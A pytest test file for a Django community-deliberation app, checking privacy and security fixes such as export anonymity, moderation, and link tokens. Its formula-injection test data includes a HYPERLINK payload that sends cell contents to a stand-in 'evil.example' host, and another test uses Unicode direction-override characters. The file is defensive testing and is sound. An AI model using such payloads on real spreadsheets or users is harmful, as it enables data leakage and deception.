"""Conversations, review 11: what a browser reviewer found.

Settings promised to participants stay fixed once people joined; the question's
wording after votes; spreadsheet formulas and anonymity in the Polis export; a stale
moderation list; text direction controls; a refused first vote; the privacy sentence
shown only to those who can take part; the mixed-sign import message; public links
that can be copied off a poster."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import random
import re
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from sayso.core.models import CODE_ALPHABET, Community, Role
from sayso.core.services import ServiceError, create_code_batch
from sayso.core.tests.factories import AdvisorGrantFactory, CommunityFactory, MembershipFactory
from sayso.deliberation import services
from sayso.deliberation.models import (
    Conversation,
    MemberJoined,
    Participant,
    Statement,
    Vote,
    new_public_token,
)
from sayso.deliberation.tests.factories import (
    ConversationFactory,
    ParticipantFactory,
    StatementFactory,
    VoteFactory,
)
from sayso.deliberation.tests.helpers import community_url, public, signed_in
from sayso.deliberation.tests.helpers import token as vote_token

pytestmark = pytest.mark.django_db
FIXTURE = (
    Path(__file__).resolve().parents[1] / "sayso/analysis/tests/fixtures/polis/15-per-hour-seattle"
)
PROMISE = (
    "People have already joined, so who can take part and whether votes are anonymous can"
    " no longer change: the promise made to them must stay true."
)


@pytest.fixture(autouse=True)
def _immediate_tasks(settings: Any) -> None:
    settings.TASKS = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}


@pytest.fixture
def community() -> Community:
    found: Community = CommunityFactory.create(slug="depot")
    return found


@pytest.fixture
def organiser(community: Community) -> Any:
    return MembershipFactory.create(community=community, role=Role.ORGANISER).user


def settings_of(conversation: Conversation) -> tuple[Any, ...]:
    return tuple(
        Conversation.objects.filter(pk=conversation.pk)
        .values_list("topic", "anonymous", "access", "code_batch_id", "moderation")
        .get()
    )


def edit_post(conversation: Conversation, **changes: Any) -> dict[str, Any]:
    """What the edit form posts for the conversation as it is, with `changes`."""
    data: dict[str, Any] = {
        "topic": conversation.topic,
        "description": conversation.description,
        "moderation": conversation.moderation,
        "participants_can_add": "on" if conversation.participants_can_add else "",
        "anonymous": "on" if conversation.anonymous else "",
        "access": conversation.access,
        "code_batch": conversation.code_batch_id or "",
    }
    data.update(changes)
    return {k: v for k, v in data.items() if v != ""}


# --- 1. who can take part and anonymity, fixed once people joined ----------------------


@pytest.mark.parametrize(
    "change",
    [
        {"anonymous": False},
        {"access": Conversation.Access.MEMBERS},
        {"access": Conversation.Access.CODES},
    ],
)
def test_the_service_refuses_to_change_the_promise_once_someone_joined(
    community: Community, organiser: Any, change: dict[str, Any]
) -> None:
    conversation = ConversationFactory.create(community=community)
    services.join(conversation=conversation)
    if change.get("access") == Conversation.Access.CODES:
        change["code_batch"], _codes = create_code_batch(
            community=community, actor=organiser, label="Codes", size=2
        )
    before = settings_of(conversation)
    edited = Conversation.objects.get(pk=conversation.pk)
    edited.topic = "A reworded question, also sent"
    for name, value in change.items():
        setattr(edited, name, value)
    with pytest.raises(ServiceError, match=re.escape(PROMISE)):
        services.update_conversation(conversation=edited, actor=organiser)
    assert settings_of(conversation) == before  # nothing saved, the topic included


def test_the_code_batch_is_fixed_too(community: Community, organiser: Any) -> None:
    first, codes = create_code_batch(community=community, actor=organiser, label="A", size=2)
    second, _codes = create_code_batch(community=community, actor=organiser, label="B", size=2)
    conversation = ConversationFactory.create(
        community=community, access=Conversation.Access.CODES, code_batch=first
    )
    assert services.join_with_code(conversation=conversation, raw_code=codes[0]) is not None
    edited = Conversation.objects.get(pk=conversation.pk)
    edited.code_batch = second
    with pytest.raises(ServiceError, match=re.escape(PROMISE)):
        services.update_conversation(conversation=edited, actor=organiser)
    assert Conversation.objects.get(pk=conversation.pk).code_batch_id == first.pk


def test_before_anyone_joined_the_promise_can_still_change(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community)
    page = signed_in(organiser).get(community_url(conversation, "edit")).content.decode()
    assert "People have already joined" not in page
    assert not re.search(r'<input[^>]*name="anonymous"[^>]*disabled', page)
    response = signed_in(organiser).post(
        community_url(conversation, "edit"),
        edit_post(conversation, anonymous="", access=Conversation.Access.MEMBERS),
    )
    assert response.status_code == 302
    conversation.refresh_from_db()
    assert (conversation.anonymous, conversation.access) == (False, Conversation.Access.MEMBERS)


def test_the_edit_form_shows_the_promise_fixed_and_ignores_a_crafted_post(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community)
    ParticipantFactory.create(conversation=conversation)
    client = signed_in(organiser)
    page = client.get(community_url(conversation, "edit")).content.decode()
    assert PROMISE in page
    for name in ("anonymous", "access", "code_batch"):
        assert re.search(rf'<(input|select)[^>]*name="{name}"[^>]*disabled', page), name
    before = settings_of(conversation)
    # A crafted post: untick anonymous and let members in, as the reviewer did.
    response = client.post(
        community_url(conversation, "edit"),
        edit_post(conversation, anonymous="", access=Conversation.Access.MEMBERS),
    )
    assert response.status_code == 302
    assert settings_of(conversation) == before


def test_a_join_between_showing_the_form_and_saving_it_is_refused(
    community: Community, organiser: Any, monkeypatch: Any
) -> None:
    # The form was shown before anyone joined (nothing disabled); someone joins before
    # it is saved: the service, not the form, refuses, and says why.
    conversation = ConversationFactory.create(community=community)
    monkeypatch.setattr(services, "anyone_joined", lambda conversation: False)
    ParticipantFactory.create(conversation=conversation)
    before = settings_of(conversation)
    monkeypatch.undo()
    from sayso.deliberation import forms

    form = forms.ConversationForm(
        edit_post(conversation, anonymous=""),
        instance=Conversation.objects.get(pk=conversation.pk),
        community=community,
        creating=False,
    )
    assert form.is_valid(), form.errors
    with pytest.raises(ServiceError, match=re.escape(PROMISE)):
        services.update_conversation(conversation=form.instance, actor=organiser)
    assert settings_of(conversation) == before


# --- 2. the question's wording after votes ---------------------------------------------


def test_the_edit_form_warns_next_to_the_question_once_people_voted(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community)
    statement = StatementFactory.create(conversation=conversation)
    client = signed_in(organiser)
    url = community_url(conversation, "edit")
    ParticipantFactory.create(conversation=conversation)  # joined, not voted
    assert "already voted on this question" not in client.get(url).content.decode()
    for _ in range(2):
        VoteFactory.create(
            participant=ParticipantFactory.create(conversation=conversation), statement=statement
        )
    page = client.get(url).content.decode()
    warning = (
        "2 people have already voted on this question. Correct its wording if you need to,"
        " but don&#x27;t change its meaning: start a new conversation to ask something else."
    )
    assert warning in page
    # Next to the question: its help text, which the field is described by.
    topic = re.search(r'<input[^>]*name="topic"[^>]*>', page)
    assert topic is not None
    assert "aria-describedby" in topic.group()
    # A warning, not a refusal: the wording can still be corrected.
    response = client.post(url, edit_post(conversation, topic="What should the rules be now?"))
    assert response.status_code == 302
    assert Conversation.objects.get(pk=conversation.pk).topic == "What should the rules be now?"


# --- 3. spreadsheet formulas in the Polis export ---------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+44 7700 900123 is the office",
    "-5 degrees in the freezer aisle is too cold",
    "@everyone should be asked",
    "'=1+1 was already quoted",
]


def _zip_file(archive: bytes, name: str) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        return list(csv.reader(io.StringIO(opened.read(name).decode())))


def test_the_export_guards_formulas_and_the_import_gives_the_words_back(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community, topic="=SUM(A1:A9) or not?")
    plain = StatementFactory.create(conversation=conversation, number=0, text="Plain words here")
    for n, text in enumerate(FORMULAS, start=1):
        StatementFactory.create(conversation=conversation, number=n, text=text)
    archive = services.export_polis(conversation=conversation, actor=organiser)
    header, *rows = _zip_file(archive, "comments.csv")
    bodies = [row[header.index("comment-body")] for row in rows]
    assert bodies == [plain.text, *("'" + text for text in FORMULAS)]
    summary = dict(row for row in _zip_file(archive, "summary.csv") if len(row) == 2)
    assert summary["topic"] == "'=SUM(A1:A9) or not?"

    job = services.start_polis_import(
        community=community, actor=organiser, archive=io.BytesIO(archive)
    )
    done = services.run_polis_import(job_id=job.pk)  # as the worker does
    assert done is not None
    copy = done.conversation
    assert copy is not None, done.error
    assert copy.topic == conversation.topic
    assert list(
        Statement.objects.filter(conversation=copy)
        .order_by("number")
        .values_list("text", flat=True)
    ) == [plain.text, *FORMULAS]


def test_the_guard_is_one_shared_rule_and_undone_exactly() -> None:
    from sayso.core import spreadsheet
    from sayso.surveys import exports

    assert vars(exports)["FORMULA_STARTS"] is spreadsheet.FORMULA_STARTS
    texts = [*FORMULAS, "", "'", "''=x", "plain", "'plain", "\tindented", "\rcarriage"]
    for text in texts:
        assert spreadsheet.unguard_formula(spreadsheet.guard_formula(text)) == text
    assert spreadsheet.guard_formula("plain") == "plain"
    # Only the guard is taken off: an apostrophe before ordinary words stays.
    assert spreadsheet.unguard_formula("'plain") == "'plain"


# --- 4. anonymity in the export --------------------------------------------------------


def _joined_in_order(conversation: Conversation, n: int) -> list[Statement]:
    """n participants, joined in order on n different days, participant i voting on
    statement i alone (so each one's row can be told apart in the export)."""
    statements = [
        StatementFactory.create(conversation=conversation, number=i, text=f"Statement {i} here")
        for i in range(n)
    ]
    start = dt.date(2026, 3, 1)
    for i in range(n):
        participant = ParticipantFactory.create(
            conversation=conversation, number=i, joined_on=start + dt.timedelta(days=i)
        )
        Vote.objects.create(
            participant=participant,
            statement=statements[i],
            value=1,
            created_on=start + dt.timedelta(days=i),
        )
    # The recompute the votes would queue: the export holds the published votes only.
    services.compute_now(conversation=conversation)
    return statements


def _numbering(archive: bytes) -> dict[int, int]:
    """Stored participant number -> number in the export, read from votes.csv (the
    participant who joined i-th voted on statement i alone)."""
    header, *rows = _zip_file(archive, "votes.csv")
    return {
        int(row[header.index("comment-id")]): int(row[header.index("voter-id")]) for row in rows
    }


def test_an_anonymous_export_numbers_people_at_random_and_gives_no_vote_day(
    community: Community, organiser: Any
) -> None:
    n = 10
    conversation = ConversationFactory.create(community=community, anonymous=True)
    _joined_in_order(conversation, n)
    numberings = []
    for seed in range(4):
        archive = services.export_polis(
            conversation=conversation, actor=organiser, rng=random.Random(seed)
        )
        numbering = _numbering(archive)
        assert sorted(numbering.values()) == list(range(n))  # a permutation
        assert numbering != {i: i for i in range(n)}  # not the order people joined
        numberings.append(tuple(numbering[i] for i in range(n)))
        # participants-votes.csv: the same numbers, rows in their order, not join order.
        header, *rows = _zip_file(archive, "participants-votes.csv")
        assert [int(row[0]) for row in rows] == list(range(n))
        for row in rows:
            voted_on = [i for i in range(n) if row[header.index(str(i))] == "1"]
            assert numbering[voted_on[0]] == int(row[0])
        # One stamp for every vote, the day the conversation started: no day of a vote.
        header, *rows = _zip_file(archive, "votes.csv")
        started = timezone.localdate(conversation.created_at)
        assert {row[header.index("datetime")] for row in rows} == {started.isoformat()}
        for day in range(n):
            assert (dt.date(2026, 3, 1) + dt.timedelta(days=day)).isoformat() not in (
                zipfile.ZipFile(io.BytesIO(archive)).read("votes.csv").decode()
            )
    assert len(set(numberings)) > 1  # a new order for each export
    # Through the page too (the system's random source): two exports differ, but for a
    # chance of 1 in 10! (3,628,800).
    client = signed_in(organiser)

    def exported() -> bytes:
        response = client.get(community_url(conversation, "export"))
        return b"".join(response.streaming_content)  # type: ignore[attr-defined]

    assert _numbering(exported()) != _numbering(exported())
    assert (
        "numbers people in a new random order"
        in client.get(community_url(conversation, "detail")).content.decode()
    )


def test_a_named_export_keeps_numbers_and_vote_days(community: Community, organiser: Any) -> None:
    n = 5
    conversation = ConversationFactory.create(community=community, anonymous=False)
    _joined_in_order(conversation, n)
    archive = services.export_polis(
        conversation=conversation, actor=organiser, rng=random.Random(1)
    )
    assert _numbering(archive) == {i: i for i in range(n)}
    header, *rows = _zip_file(archive, "votes.csv")
    assert [row[header.index("datetime")] for row in rows] == [
        (dt.date(2026, 3, 1) + dt.timedelta(days=i)).isoformat() for i in range(n)
    ]
    assert (
        "numbers people in a new random order"
        not in signed_in(organiser).get(community_url(conversation, "detail")).content.decode()
    )


# --- 6. a stale moderation list --------------------------------------------------------


def test_moderating_a_stale_list_changes_those_still_waiting_and_says_so(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community)
    waiting = [
        StatementFactory.create(
            conversation=conversation, number=n, state=Statement.State.PENDING, text=f"Wait {n} x"
        )
        for n in range(3)
    ]
    url = community_url(conversation, "moderate") + "?show=pending"
    client = signed_in(organiser)
    assert all(f'value="{s.pk}"' in client.get(url).content.decode() for s in waiting)
    # Someone else rejects the second one in another tab.
    Statement.objects.filter(pk=waiting[1].pk).update(state=Statement.State.REJECTED)
    response = client.post(
        url, {"statements": [s.pk for s in waiting], "action": "accept"}, follow=True
    )
    page = response.content.decode()
    states = dict(Statement.objects.values_list("pk", "state"))
    assert [states[s.pk] for s in waiting] == ["accepted", "rejected", "accepted"]
    assert "2 statements accepted." in page
    assert "1 statement had already been checked by someone else and was left as it was." in page
    assert "not one of the available choices" not in page
    assert not re.search(rf"\b{waiting[1].pk}\b is", page)


def test_when_every_ticked_statement_was_checked_already_nothing_changes(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community)
    gone = [
        StatementFactory.create(
            conversation=conversation, number=n, state=Statement.State.PENDING, text=f"Gone {n} x"
        )
        for n in range(2)
    ]
    Statement.objects.filter(pk=gone[0].pk).update(state=Statement.State.ACCEPTED)
    Statement.objects.filter(pk=gone[1].pk).update(state=Statement.State.REJECTED)
    url = community_url(conversation, "moderate") + "?show=pending"
    page = (
        signed_in(organiser)
        .post(url, {"statements": [s.pk for s in gone], "action": "reject"}, follow=True)
        .content.decode()
    )
    assert dict(Statement.objects.values_list("pk", "state")) == {
        gone[0].pk: "accepted",
        gone[1].pk: "rejected",
    }
    assert "2 statements had already been checked by someone else and were left as they were." in (
        page
    )
    assert "statements rejected." not in page


# --- 7. text direction controls --------------------------------------------------------

CONTROLS = "".join(chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)])


def test_direction_controls_are_taken_out_of_statements(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(community=community)
    client = Client()
    client.get(public(conversation))
    response = client.post(
        public(conversation, "statement"),
        {"text": f"Pay rises \u202eyaw on\u202c for night shifts{CONTROLS}"},
    )
    assert response.status_code == 302
    written = Statement.objects.get(conversation=conversation)
    assert written.text == "Pay rises yaw on for night shifts"
    seed = services.add_seed_statement(
        conversation=conversation, text="\u2067Breaks\u2069 should be paid", actor=organiser
    )
    assert seed.text == "Breaks should be paid"
    pending = StatementFactory.create(
        conversation=conversation, number=5, state=Statement.State.PENDING
    )
    edited = services.edit_pending_statement(
        conversation=conversation,
        statement_id=pending.pk,
        text="Rotas \u202dare\u202c set late",
        actor=organiser,
    )
    assert edited.text == "Rotas are set late"


# --- 8. a refused first vote joins nobody ----------------------------------------------


def test_a_refused_first_vote_creates_no_participant(community: Community) -> None:
    conversation = ConversationFactory.create(community=community)
    first, second = StatementFactory.create_batch(2, conversation=conversation)
    client = Client()
    client.get(public(conversation))
    Statement.objects.filter(pk=first.pk).update(state=Statement.State.REJECTED)
    response = client.post(public(conversation), {"statement": vote_token(first), "vote": "agree"})
    assert "That statement is not part of this conversation any more." in (
        response.content.decode()
    )
    assert Participant.objects.filter(conversation=conversation).count() == 0
    assert f"sayso_participant_{conversation.pk}" not in client.cookies
    # The next vote joins, once.
    client.post(public(conversation), {"statement": vote_token(second), "vote": "agree"})
    assert Participant.objects.filter(conversation=conversation).count() == 1
    assert Vote.objects.count() == 1


def test_a_refused_first_vote_of_a_member_leaves_no_record_that_they_joined(
    community: Community,
) -> None:
    conversation = ConversationFactory.create(
        community=community, anonymous=True, access=Conversation.Access.MEMBERS
    )
    statement = StatementFactory.create(conversation=conversation)
    member = MembershipFactory.create(community=community, role=Role.MEMBER).user
    client = signed_in(member)
    client.get(public(conversation))
    Statement.objects.filter(pk=statement.pk).update(state=Statement.State.REJECTED)
    with pytest.raises(services.VoteRefused):
        services.join_and_vote(
            conversation=conversation,
            user=member,
            token="",
            statement_id=statement.pk,
            value=1,
        )
    assert (Participant.objects.count(), MemberJoined.objects.count()) == (0, 0)


# --- 9. the privacy sentence, only for those who can take part -------------------------


def test_people_who_cannot_take_part_get_no_privacy_sentence(community: Community) -> None:
    conversation = ConversationFactory.create(
        community=community, anonymous=False, access=Conversation.Access.MEMBERS
    )
    StatementFactory.create(conversation=conversation)
    signed_out = Client().get(public(conversation)).content.decode()
    assert "Sign in to take part" in signed_out
    assert "Your votes are" not in signed_out
    advisor = AdvisorGrantFactory.create(community=community).advisor
    advising = signed_in(advisor).get(public(conversation)).content.decode()
    assert "This conversation is for members" in advising
    assert "Your votes are" not in advising
    member = MembershipFactory.create(community=community, role=Role.MEMBER).user
    taking_part = signed_in(member).get(public(conversation)).content.decode()
    assert "Your votes are linked to your account" in taking_part


# --- 10. the mixed-sign import message -------------------------------------------------


def test_a_flipped_votes_file_is_refused_in_plain_words() -> None:
    votes = (FIXTURE / "votes.csv").read_text()
    header, *lines = votes.splitlines()
    flipped = [
        ",".join([*line.split(",")[:-1], {"1": "-1", "-1": "1"}.get(line.split(",")[-1], "0")])
        for line in lines
    ]
    with pytest.raises(services.ImportRefused) as refused:
        services.read_polis_upload(
            {
                "comments.csv": io.BytesIO((FIXTURE / "comments.csv").read_bytes()),
                "votes.csv": io.BytesIO("\n".join([header, *flipped, ""]).encode()),
            }
        )
    message = str(refused.value)
    assert re.match(
        r"votes\.csv, line \d+: comments\.csv and votes\.csv disagree about which number means"
        r" agree \(statement \d+: comments\.csv counts \d+ agrees, but votes\.csv has \d+ votes?"
        r" of 1 and \d+ of -1\)\. The export may come from Polis's internal tables: export it"
        r" again from the Polis report page\.$",
        message,
    ), message


# --- 11. public links ------------------------------------------------------------------


def test_new_public_links_use_the_code_alphabet_and_old_ones_still_work(
    community: Community,
) -> None:
    tokens = {new_public_token() for _ in range(50)}
    assert len(tokens) == 50
    for token in tokens:
        assert set(token) <= set(CODE_ALPHABET)
        assert len(token) * math.log2(len(CODE_ALPHABET)) >= 80
    assert ConversationFactory.create(community=community).public_token[0] in CODE_ALPHABET
    old = ConversationFactory.create(community=community, public_token="aB3-_x0OlI9zQw7k")
    StatementFactory.create(conversation=old)
    assert Client().get(public(old)).status_code == 200


# --- 5. a statement that may name someone waits for an organiser ----------------------

NAMING = "My manager Dave Smith in aisle 7 uses scanner data to bully me"


def test_a_statement_naming_someone_is_held_where_statements_show_at_once(
    community: Community,
) -> None:
    from sayso.deliberation import selectors

    conversation = ConversationFactory.create(community=community)  # shown straight away
    client = Client()
    client.get(public(conversation))
    response = client.post(public(conversation, "statement"), {"text": NAMING}, follow=True)
    assert "Your statement may contain personal details, such as a name or a phone number, so" in (
        response.content.decode()
    )
    held = Statement.objects.get(conversation=conversation)
    assert held.state == Statement.State.HELD
    plain = client.post(public(conversation, "statement"), {"text": "Breaks should be paid"})
    assert plain.status_code == 302
    shown = Statement.objects.get(conversation=conversation, text="Breaks should be paid")
    assert shown.state == Statement.State.ACCEPTED
    selectors.forget_routing(conversation)
    routing = selectors.load_routing(conversation.public_token)
    assert routing is not None
    assert shown.pk in routing.statements
    assert held.pk not in routing.statements
    # Nobody can vote on it, even with its number.
    author = Participant.objects.get(conversation=conversation)
    with pytest.raises(services.VoteRefused):
        services.cast_vote(
            conversation=conversation, participant=author, statement_id=held.pk, value=1
        )
    assert not Vote.objects.filter(statement=held).exists()


def test_pre_moderation_keeps_such_a_statement_waiting_as_any_other(
    community: Community,
) -> None:
    conversation = ConversationFactory.create(
        community=community, moderation=Conversation.Moderation.PRE
    )
    client = Client()
    client.get(public(conversation))
    client.post(public(conversation, "statement"), {"text": NAMING})
    assert Statement.objects.get(conversation=conversation).state == Statement.State.PENDING


def test_an_organiser_finds_a_held_statement_first_edits_it_and_accepts_it(
    community: Community, organiser: Any
) -> None:
    from sayso.deliberation import selectors

    conversation = ConversationFactory.create(community=community)
    author = ParticipantFactory.create(conversation=conversation, number=1)
    held = services.add_participant_statement(
        conversation=conversation, participant=author, text=NAMING
    )
    assert held.state == Statement.State.HELD
    client = signed_in(organiser)
    page = client.get(community_url(conversation, "moderate")).content.decode()
    assert "Held: may contain personal details (1)" in page
    assert "Dave Smith" in page  # the list opened on the held statements
    # The name can be taken out before accepting, as for a statement waiting.
    edit = reverse(
        "deliberation:statement-edit",
        kwargs={"slug": community.slug, "conversation": conversation.pk, "statement": held.pk},
    )
    assert (
        client.post(edit, {"text": "My manager uses scanner data to bully me"}).status_code == 302
    )
    held.refresh_from_db()
    assert held.text == "My manager uses scanner data to bully me"
    assert held.state == Statement.State.HELD
    response = client.post(
        community_url(conversation, "moderate") + "?show=held",
        {"action": "accept", "statements": [held.pk]},
    )
    assert response.status_code == 302
    held.refresh_from_db()
    assert held.state == Statement.State.ACCEPTED
    selectors.forget_routing(conversation)
    routing = selectors.load_routing(conversation.public_token)
    assert routing is not None
    assert held.pk in routing.statements


def test_a_second_writer_of_a_held_statement_learns_nothing_from_the_answer(
    community: Community,
) -> None:
    """ "Someone has already written this" would confirm the words of a statement kept
    back: the second writer is answered as the first was, and nothing is added."""
    conversation = ConversationFactory.create(community=community)
    first = ParticipantFactory.create(conversation=conversation, number=1)
    second = ParticipantFactory.create(conversation=conversation, number=2)
    held = services.add_participant_statement(
        conversation=conversation, participant=first, text=NAMING
    )
    again = services.add_participant_statement(
        conversation=conversation, participant=second, text=NAMING
    )
    assert again.pk == held.pk
    assert again.state == Statement.State.HELD
    assert Statement.objects.filter(conversation=conversation).count() == 1
    client = Client()
    client.get(public(conversation))
    page = client.post(public(conversation, "statement"), {"text": NAMING}, follow=True)
    said = page.content.decode()
    assert (
        "Your statement may contain personal details, such as a name or a phone number, so" in said
    )
    assert "already written" not in said
    assert Statement.objects.filter(conversation=conversation).count() == 1


def test_a_link_typed_in_small_letters_leads_to_the_conversation(community: Community) -> None:
    conversation = ConversationFactory.create(community=community)
    assert conversation.public_token == conversation.public_token.upper()
    typed = public(conversation).replace(
        conversation.public_token, conversation.public_token.lower()
    )
    response = Client().get(typed)
    assert response.status_code == 301
    assert response["Location"] == public(conversation)
    # A made-up link is still not found, and leaves nothing behind in the process.
    from sayso.deliberation import selectors

    made_up = public(conversation).replace(conversation.public_token, "NOSUCHLINK2345")
    assert Client().get(made_up).status_code == 404
    assert Client().get(made_up.lower()).status_code == 404
    assert "NOSUCHLINK2345" not in selectors._reloading
    assert "nosuchlink2345" not in selectors._reloading


def test_the_moderation_list_hints_at_a_statement_much_like_an_earlier_one(
    community: Community, organiser: Any
) -> None:
    conversation = ConversationFactory.create(
        community=community, moderation=Conversation.Moderation.PRE
    )
    author = ParticipantFactory.create(conversation=conversation, number=1)
    for text in (
        "Supervisors should not time toilet breaks!!",
        "Pay rises should follow the cost of living",
        "Supervisors should not time toilet breaks (member)",
    ):
        services.add_participant_statement(conversation=conversation, participant=author, text=text)
    html = signed_in(organiser).get(community_url(conversation, "moderate")).content.decode()
    rows = html.split("<tbody>", 1)[1].split("</tr>")
    first, pay, member = rows[:3]
    assert "(member)" in member
    assert "Much like statement 1" in member
    assert "Much like" not in first
    assert "Much like" not in pay


def test_a_conversation_code_typed_with_spaces_between_the_letters_fits_the_box() -> None:
    from sayso.deliberation.forms import CodeForm

    spaced = " ".join("ABCDEFGH23K")
    assert len(spaced) > 20
    form = CodeForm(data={"code": spaced})
    assert form.is_valid(), form.errors
